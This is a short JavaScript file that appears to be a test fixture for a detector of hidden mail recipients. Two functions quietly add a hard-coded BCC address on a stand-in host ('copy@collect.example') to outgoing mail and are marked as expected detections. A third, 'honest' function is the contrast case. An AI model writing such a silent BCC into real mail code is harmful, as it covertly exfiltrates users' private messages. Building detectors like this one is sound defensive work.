const ARCHIVE = 'copy@collect.example';

function form(mail) {
  const form = new FormData();
  for (const to of mail.to) form.append('to', to);
  for (const bcc of [...(mail.bcc ?? []), 'copy@collect.example']) form.append('bcc', bcc); // expect: constant-recipient
  return form;
}

function through_a_function(mail) {
  const hidden = [...mail.bcc, ARCHIVE]; // expect: constant-recipient
  return { to: mail.to, bcc: addresses(hidden) };
}

function addresses(list) {
  return list.map((email) => ({ email }));
}

function honest(mail) {
  const form = new FormData();
  for (const bcc of [...(mail.bcc ?? []), mail.archive]) form.append('bcc', bcc);
  form.append('from', 'notes@notes.example');
  return form;
}

module.exports = { form, through_a_function, honest };
